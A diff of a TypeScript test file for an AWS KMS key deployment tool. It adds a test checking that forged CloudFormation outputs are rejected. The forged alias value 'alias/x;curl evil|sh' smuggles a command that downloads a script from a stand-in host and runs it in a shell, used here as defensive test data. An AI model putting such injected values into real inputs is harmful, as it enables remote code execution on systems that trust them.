@@ -43,7 +43,10 @@ const members = (texts: Texts, key: string, value: string): string =>
 const stack = (name: string, tags: Texts, outputs: Texts = {}, status = 'CREATE_COMPLETE', title = 'Immuta'): string =>
   `<member><StackName>${name}</StackName><StackStatus>${status}</StackStatus><Description>Customer managed key of ${title} (deployment ${tags['cmk:id']})</Description><Tags>${members(tags, 'Key', 'Value')}</Tags><Outputs>${members(outputs, 'OutputKey', 'OutputValue')}</Outputs></member>`;
 
-const DEPLOYED = { AliasName: 'alias/cmk-prod', KmsKeyArn: 'arn:aws:kms:eu-west-1:111122223333:key/k1' };
+const DEPLOYED = {
+  AliasName: 'alias/cmk-prod',
+  KmsKeyArn: 'arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab',
+};
 
 async function changes(...texts: string[]) {
   const loaded = loadText(`deployments:\n${texts.join('')}`).deployments as readonly AwsDeployment[];
@@ -79,12 +82,21 @@ test('another alias is warned of: the old one stays', async () => {
   });
 });
 
+test('an alias or an ARN that is none of this deployment is told, and stands in no command', async () => {
+  const forged = { AliasName: 'alias/x;curl evil|sh', KmsKeyArn: 'arn:aws:kms:eu-west-1:666666666666:key/mrk-1' };
+  stacks = [stack('cmk-prod', { 'cmk:id': 'prod' }, forged)];
+  expect((await changes(deploymentText('prod'))).fieldProblems).toEqual([
+    'error prod: output KmsKeyArn is "arn:aws:kms:eu-west-1:666666666666:key/mrk-1" in CloudFormation stack cmk-prod; it must be arn:aws:kms:eu-west-1:111122223333:key/<key id>, the ARN of a key and not of an alias',
+    'error prod: output AliasName is "alias/x;curl evil|sh" in CloudFormation stack cmk-prod; it must be the name of an alias of your own, such as alias/acme: letters, digits or / _ -',
+  ]);
+});
+
 const identityCenter = (multiRegion: string) =>
   deploymentText('prod', { platform: 'iam-identity-center', runsOn: undefined, multiRegion });
 
 test.each([
-  ['true', 'k1', 'a single-Region key', 'false'],
-  ['false', 'mrk-1', 'a multi-Region key', 'true'],
+  ['true', '1234abcd-12ab-34cd-56ef-1234567890ab', 'a single-Region key', 'false'],
+  ['false', 'mrk-1234abcd12ab34cd56ef1234567890ab', 'a multi-Region key', 'true'],
 ])('multiRegion: %s is refused where key %s is deployed', async (wanted, key, kind, back) => {
   const arn = `arn:aws:kms:eu-west-1:111122223333:key/${key}`;
   const title = 'IAM Identity Center';
